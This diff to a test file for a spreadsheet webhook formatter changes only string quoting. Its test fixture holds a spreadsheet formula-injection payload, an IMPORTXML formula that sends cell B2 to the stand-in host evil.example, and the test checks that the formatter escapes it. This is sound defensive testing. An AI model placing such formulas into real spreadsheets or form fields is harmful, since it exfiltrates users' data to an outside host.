@@ -11,7 +11,7 @@ const hostile: WebhookPayload = {
   lastName: "",
   phone: "+1+2",
   email: null,
-  message: "Hi;=IMPORTXML(CONCAT(\"http://evil.example/?\",B2),\"//a\")",
+  message: 'Hi;=IMPORTXML(CONCAT("http://evil.example/?",B2),"//a")',
   package: { id: 1, title: "Bali 7D/6N", url: "https://pravas.example/packages/bali" },
   travellers: null,
   preferredMonth: null,
@@ -23,7 +23,7 @@ describe("the spreadsheet webhook formats", () => {
     expect(fields.name).toBe(`'${hostile.name}`);
     expect(fields.firstName).toBe(`'${hostile.firstName}`);
     expect(fields.phone).toBe("'+1+2");
-    expect(fields.message).toBe("Hi;'=IMPORTXML(CONCAT(\"http://evil.example/?\",B2),\"//a\")");
+    expect(fields.message).toBe('Hi;\'=IMPORTXML(CONCAT("http://evil.example/?",B2),"//a")');
     expect(fields.package).toBe("Bali 7D/6N");
     expect(fields.receivedAt).toBe("2026-11-24T00:45:24.959Z");
   });
